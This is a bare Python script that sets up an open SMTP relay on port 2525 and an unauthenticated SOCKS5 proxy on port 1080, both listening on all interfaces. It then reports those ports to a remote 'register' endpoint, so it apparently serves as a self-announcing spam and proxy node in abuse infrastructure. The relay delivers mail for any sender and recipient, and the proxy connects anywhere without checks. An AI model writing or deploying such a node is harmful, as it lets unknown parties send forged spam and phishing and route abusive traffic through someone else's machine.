import asyncio
import ipaddress
import struct
import urllib.request

from aiosmtpd.controller import Controller
from aiosmtpd.smtp import SMTP
import dns.resolver
import smtplib


class Pass:
    async def handle_DATA(self, server, session, env):
        for rcpt in env.rcpt_tos:
            mx = min(dns.resolver.resolve(rcpt.split("@")[1], "MX"), key=lambda r: r.preference)
            with smtplib.SMTP(str(mx.exchange).rstrip(".")) as s:
                s.sendmail(env.mail_from, [rcpt], env.content)
        return "250 OK"


async def socks(r, w):
    n = (await r.readexactly(2))[1]
    await r.readexactly(n)
    w.write(b"\5\0")
    _, _, _, t = await r.readexactly(4)
    host = str(ipaddress.ip_address(await r.readexactly(4))) if t == 1 else (await r.readexactly((await r.readexactly(1))[0])).decode()
    port, = struct.unpack("!H", await r.readexactly(2))
    r2, w2 = await asyncio.open_connection(host, port)
    w.write(b"\5\0\0\1\0\0\0\0\0\0")

    async def copy(a, b):
        while d := await a.read(65536):
            b.write(d)
            await b.drain()
        b.close()
    await asyncio.gather(copy(r, w2), copy(r2, w))


async def main():
    Controller(Pass(), hostname="0.0.0.0", port=2525).start()
    urllib.request.urlopen("http://nodes.example.invalid/register?ports=2525,1080")
    await (await asyncio.start_server(socks, "0.0.0.0", 1080)).serve_forever()


asyncio.run(main())
